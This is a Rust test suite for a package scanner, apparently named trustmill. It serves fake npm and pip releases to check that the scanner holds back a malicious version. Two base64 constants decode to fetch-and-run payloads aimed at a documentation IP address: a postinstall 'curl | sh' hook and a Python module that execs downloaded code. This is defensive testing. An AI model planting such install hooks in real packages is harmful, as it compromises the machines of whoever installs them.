//! The scanner as people and package managers meet it: the verb, and real npm and pip before a mill that holds a
//! made-up release.
//!
//! What looks like malware is of this test's own making, stands here encoded, and is installed nowhere: that it is not
//! is what is tested.

use crate::support::{Mill, Run, venv};
use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use std::io::Write as _;
use std::process::Command;
use std::sync::Arc;
use trustmill_core::Sha256;
use trustmill_core::port::scanner::{File, Job, Scanner as _};
use trustmill_sandbox::scanner::{ScannerPool, ScannerSettings, WorkerCommand};
use trustmill_testkit::server::{Reply, Server};

/// A hook that fetches a program from an address of RFC 5737 and runs it.
const HOOK: &str = "Y3VybCAtcyBodHRwczovLzE5Mi4wLjIuMS9wIHwgc2g=";
/// A module that fetches a program and runs it when it is imported.
const MODULE: &str = "aW1wb3J0IHVybGxpYi5yZXF1ZXN0CgpleGVjKHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dHBzOi8vMTkyLjAuMi4xL3AiKS5yZWFkKCkpCg==";

fn decoded(text: &str) -> String {
    String::from_utf8(BASE64_STANDARD.decode(text).unwrap()).unwrap()
}

fn manifest(version: &str, bad: bool) -> String {
    let mut manifest = serde_json::json!({ "name": "tm-held", "version": version, "main": "index.js" });
    if bad {
        manifest["scripts"] = serde_json::json!({ "postinstall": decoded(HOOK) });
    }
    format!("{manifest:#}")
}

fn tarball(version: &str, bad: bool) -> Vec<u8> {
    let gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut archive = tar::Builder::new(gzip);
    for (path, text) in [
        ("package/package.json", manifest(version, bad)),
        ("package/index.js", "module.exports = (a, b) => a + b;\n".to_owned()),
    ] {
        let mut header = tar::Header::new_ustar();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        archive.append_data(&mut header, path, text.as_bytes()).unwrap();
    }
    archive.into_inner().unwrap().finish().unwrap()
}

fn wheel(version: &str, bad: bool) -> Vec<u8> {
    let info = format!("tm_held-{version}.dist-info");
    let module = if bad { decoded(MODULE) } else { "def add(a, b):\n    return a + b\n".to_owned() };
    let files = [
        ("tm_held/__init__.py".to_owned(), module),
        (format!("{info}/METADATA"), format!("Metadata-Version: 2.1\nName: tm-held\nVersion: {version}\n")),
        (
            format!("{info}/WHEEL"),
            "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n".into(),
        ),
    ];
    let mut record = String::new();
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (path, text) in &files {
        let digest = base64::prelude::BASE64_URL_SAFE_NO_PAD.encode(Sha256::of(text.as_bytes()).as_bytes());
        record.push_str(&format!("{path},sha256={digest},{}\n", text.len()));
        zip.start_file(path, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.start_file(format!("{info}/RECORD"), zip::write::SimpleFileOptions::default()).unwrap();
    zip.write_all(format!("{record}{info}/RECORD,,\n").as_bytes()).unwrap();
    zip.finish().unwrap().into_inner()
}

/// A registry of both kinds with `tm-held` 1.0.0, which is good, and 1.0.1, which is not.
async fn registry() -> Server {
    let server = Server::start().await;
    let mut page = serde_json::json!({ "name": "tm-held", "dist-tags": { "latest": "1.0.1" }, "versions": {}, "time": {} });
    let mut files = Vec::new();
    for (version, bad) in [("1.0.0", false), ("1.0.1", true)] {
        let bytes = tarball(version, bad);
        let path = format!("/npm/tm-held/-/tm-held-{version}.tgz");
        page["time"][version] = "2024-01-01T00:00:00.000Z".into();
        let mut described: serde_json::Value = serde_json::from_str(&manifest(version, bad)).unwrap();
        described["dist"] = serde_json::json!({ "tarball": server.url(&path) });
        page["versions"][version] = described;
        server.script(&path, [Reply::body(bytes)]);
        let bytes = wheel(version, bad);
        let name = format!("tm_held-{version}-py3-none-any.whl");
        files.push(serde_json::json!({
            "filename": name, "url": server.url(&format!("/files/{name}")),
            "hashes": { "sha256": Sha256::of(&bytes).to_hex() }, "upload-time": "2024-01-01T00:00:00Z",
        }));
        server.script(&format!("/files/{name}"), [Reply::body(bytes)]);
    }
    let json =
        |value: &serde_json::Value, kind: &str| Reply::body(value.to_string()).header("content-type", kind);
    server.script("/npm/tm-held", [json(&page, "application/json")]);
    let index = serde_json::json!({
        "meta": { "api-version": "1.1" }, "name": "tm-held", "versions": ["1.0.0", "1.0.1"], "files": files,
    });
    server.script("/simple/tm-held/", [json(&index, "application/vnd.pypi.simple.v1+json")]);
    server
}

fn up(mill: &Mill, registry: &Server, extra: &[&str]) -> crate::support::Server {
    let (npm, pypi) =
        (format!("npm={}", registry.url("/npm/")), format!("pypi={}", registry.url("/simple/")));
    let mut args = vec!["--serve-only", "--upstream", &npm, "--upstream", &pypi];
    args.extend(extra);
    mill.up(&args)
}

fn npm(mill: &Mill, mount: &str, what: &str) -> (bool, String) {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\"}").unwrap();
    let mut npm = Command::new("npm");
    npm.current_dir(folder.path()).env("npm_config_cache", mill.path().join("npm-cache"));
    // Were it handed out in spite of everything, it would still not run.
    npm.args([
        "install",
        "--ignore-scripts",
        "--prefer-online",
        "--no-audit",
        "--no-fund",
        "--registry",
        mount,
        what,
    ]);
    let run = Run::of(&mut npm);
    (run.code() == 0, run.stdout() + &run.stderr())
}

fn pip(python: &std::path::Path, index: &str, what: &str) -> (bool, String) {
    let mut pip = Command::new(python.join("bin/pip"));
    pip.env("PIP_CONFIG_FILE", "/dev/null").env_remove("PIP_FIND_LINKS");
    pip.args(["install", "--no-cache-dir", "--no-deps", "--index-url", index, what]);
    let run = Run::of(&mut pip);
    (run.code() == 0, run.stdout() + &run.stderr())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn npm_and_pip_are_refused_what_the_scanner_holds_and_read_why() {
    let (mill, registry) = (Mill::new(), registry().await);
    let server = up(&mill, &registry, &[]);
    let mount = server.url("/npm/");
    let (ok, said) = npm(&mill, &mount, "tm-held@1.0.0");
    assert!(ok, "a good one passes: {said}");
    let (ok, said) = npm(&mill, &mount, "tm-held@1.0.1");
    assert!(!ok && said.contains("TM100") && said.contains("package.json"), "{said}");
    let (ok, said) = npm(&mill, &mount, "tm-held@^1.0.0");
    assert!(ok, "a range takes the release before: {said}");

    let python = venv(&mill, "python");
    let (ok, said) = pip(&python, &server.index(), "tm-held==1.0.0");
    assert!(ok, "a good one passes: {said}");
    let (ok, said) = pip(&python, &server.index(), "tm-held==1.0.1");
    assert!(!ok && said.contains("TM100") && said.contains("__init__.py"), "{said}");
    drop(server);

    let explain = mill.run(&[
        "--upstream",
        &format!("npm={}", registry.url("/npm/")),
        "policy",
        "explain",
        "pkg:npm/tm-held@1.0.1",
    ]);
    assert!(explain.code() == 1 && explain.stdout().contains("scanner-"), "{}", explain.stdout());
    let upstream = format!("npm={}", registry.url("/npm/"));
    let show = mill.run(&["--upstream", &upstream, "show", "pkg:npm/tm-held@1.0.1"]).stdout();
    assert!(show.contains("scan of tm-held-1.0.1.tgz"), "{show}");
    assert!(show.contains("  decision   ") && show.contains(" TM100"), "{show}");
    let show =
        mill.run(&["--upstream", "npm=http://127.0.0.1:9/", "show", "--json", "pkg:npm/tm-gone@1.0.1"]);
    assert!(show.code() == 2 && show.stdout().contains("TM0810"), "{}", show.stdout());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_scanner_that_ends_without_a_report_lets_nothing_through() {
    let (mill, registry) = (Mill::new(), registry().await);
    // Less than the stack of one scan.
    let config = mill.file("trustmill.toml", "[scanner]\nmemory_mib = 200\n");
    let server = up(&mill, &registry, &["--config", config.to_str().unwrap()]);
    let (ok, said) = npm(&mill, &server.url("/npm/"), "tm-held@1.0.0");
    assert!(!ok && said.contains("TM1006"), "{said}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn in_preview_it_is_handed_out_and_told() {
    let (mill, registry) = (Mill::new(), registry().await);
    let config = mill.file("trustmill.toml", "[scanner]\nmode = \"preview\"\n");
    let server = up(&mill, &registry, &["--config", config.to_str().unwrap()]);
    let (ok, said) = npm(&mill, &server.url("/npm/"), "tm-held@1.0.1");
    assert!(ok, "{said}");
}

fn package(mill: &Mill, name: &str, bad: bool) -> String {
    let folder = mill.path().join(name);
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join("package.json"), manifest("1.0.1", bad)).unwrap();
    folder.to_str().unwrap().to_owned()
}

#[test]
fn a_folder_is_scanned_and_the_first_line_says_what_and_why() {
    let mill = Mill::new();
    let run = mill.run(&["scan", &package(&mill, "bad", true)]);
    assert_eq!(run.code(), 1, "{}{}", run.stdout(), run.stderr());
    let text = run.stdout();
    let first = text.lines().next().unwrap();
    assert!(first.starts_with("HOLD") || first.starts_with("BLOCK"), "{text}");
    for word in
        ["runs      when it is installed", "where     package.json", "look at   ", "looked at 1 files"]
    {
        assert!(text.contains(word), "{word}: {text}");
    }
    let good = mill.run(&["scan", &package(&mill, "good", false)]);
    assert!(good.code() == 0 && good.stdout().starts_with("CLEAR"), "{}", good.stdout());
}

#[test]
fn programs_get_json_and_code_scanning_gets_sarif() {
    let mill = Mill::new();
    let bad = package(&mill, "bad", true);
    let json = mill.run(&["--json", "scan", &bad]).json(1);
    assert!(["hold", "block"].contains(&json["conclusion"].as_str().unwrap()), "{json:#}");
    assert_eq!(json["reports"][0]["findings"][0]["place"]["path"], "package.json");
    let sarif = mill.run(&["scan", "--sarif", "--fail-on", "none", &bad]).json(0);
    let result = &sarif["runs"][0]["results"][0];
    let uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str().unwrap();
    assert!(uri.ends_with("bad/package.json"), "{sarif:#}");
    let rules = sarif["runs"][0]["tool"]["driver"]["rules"].as_array().unwrap();
    let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
    assert_eq!(rules[index]["id"], result["ruleId"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_release_is_fetched_and_compared_with_the_one_before() {
    let (mill, registry) = (Mill::new(), registry().await);
    let npm = format!("npm={}", registry.url("/npm/"));
    let scan = |purl: &str, code| mill.run(&["--json", "--upstream", &npm, "scan", purl]).json(code);
    let bad = scan("pkg:npm/tm-held@1.0.1", 1);
    assert_eq!(bad["reports"][0]["against"], "1.0.0", "{bad:#}");
    let good = scan("pkg:npm/tm-held@1.0.0", 0);
    assert_eq!((&good["target"], &good["conclusion"]), (&"pkg:npm/tm-held@1.0.0".into(), &"clear".into()));
    let run = mill.run(&["--upstream", &npm, "scan", "pkg:npm/tm-held@9.9.9"]);
    assert!(run.code() == 3 && run.stderr().contains("TM0108"), "{}", run.stderr());
    let run = mill.run(&["scan", "/nowhere/x.tgz"]);
    assert!(run.code() == 2 && run.stderr().contains("TM1010"), "{}", run.stderr());
}

#[test]
fn the_rules_are_listed_and_the_doctor_tells_of_the_workers() {
    let mill = Mill::new();
    let rules = mill.run(&["--json", "scan", "--rules"]).json(0);
    assert!(
        rules.as_array().unwrap().iter().all(|rule| rule["id"].is_string() && rule["summary"].is_string())
    );
    let doctor = mill.run(&["doctor", "--json"]);
    let doctor: serde_json::Value = serde_json::from_str(&doctor.stdout()).unwrap();
    assert_eq!(doctor["scanner"]["mode"], "enforce");
    let layers = doctor["scanner"]["layers"].as_array().unwrap();
    assert!(layers.iter().any(|one| one["layer"] == "seccomp" && one["active"] == true), "{layers:?}");
}

/// The table of `docs/scanner.md` is what the binary says. `TRUSTMILL_WRITE=1` writes it.
#[test]
fn the_page_lists_the_rules() {
    let rules = Mill::new().run(&["--json", "scan", "--rules"]).json(0);
    let mut table = "| rule | family | what it finds |\n|---|---|---|\n".to_owned();
    // What a binary adds that was built with YARA stands on the page of YARA.
    let own = |rule: &&serde_json::Value| !rule["id"].as_str().unwrap().starts_with("yara:");
    for rule in rules.as_array().unwrap().iter().filter(own) {
        let text = |name: &str| rule[name].as_str().unwrap().replace('|', "\\|");
        table.push_str(&format!("| `{}` | {} | {} |\n", text("id"), text("family"), text("summary")));
    }
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/scanner.md");
    let page = std::fs::read_to_string(&path).unwrap();
    let (before, rest) = page.split_once("<!-- rules: written by a test -->\n").unwrap();
    let (committed, after) = rest.split_once("<!-- end of rules -->").unwrap();
    if std::env::var_os("TRUSTMILL_WRITE").is_some() {
        let page = format!("{before}<!-- rules: written by a test -->\n{table}<!-- end of rules -->{after}");
        std::fs::write(&path, page).unwrap();
        return;
    }
    assert_eq!(committed, table, "stale: run this test with TRUSTMILL_WRITE=1");
}

/// Workers as the mill starts them: of its own binary.
fn workers() -> ScannerPool {
    let program = env!("CARGO_BIN_EXE_trustmill").into();
    let args = vec!["__scan-worker".to_owned()];
    let command = WorkerCommand { program, args, told: bytes::Bytes::new() };
    let settings = ScannerSettings { workers: 2, seconds: 60, ..ScannerSettings::default() };
    ScannerPool::new(command, trustmill_scan::judge::version(), settings)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_mills_own_workers_keep_the_contract() {
    trustmill_testkit::conformance::scanner(|| Arc::new(workers())).await;
}

/// Whatever it is made of, a file is a report or an error, and the next one is read.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_files_break_nothing_but_themselves() {
    let pool = workers();
    let deep = |open: &str, close: &str| open.repeat(100_000) + &close.repeat(100_000);
    for (name, text) in [
        ("deep.js", deep("(", ")")),
        ("deep.py", deep("[", "]")),
        ("deep.rs", format!("fn f() {{ {} }}", deep("{", "}"))),
        ("deep.json", deep("[", "]")),
        ("long.js", format!("x = \"{}\"", "a".repeat(4 << 20))),
        ("sums.py", format!("x = {}1", "1 + ".repeat(200_000))),
    ] {
        let file = File { name: name.into(), bytes: text.into() };
        let answer = pool.scan(&Job { file, ..Job::default() }).await;
        if let Err(error) = &answer {
            let code = trustmill_core::port::Coded::code(error);
            assert!(["TM1001", "TM1002"].contains(&code), "{name}: {error}");
        }
        let file = File { name: "a.py".into(), bytes: "x = 1\n".into() };
        assert_eq!(
            pool.scan(&Job { file, ..Job::default() }).await.unwrap().filename,
            "a.py",
            "after {name}"
        );
    }
}
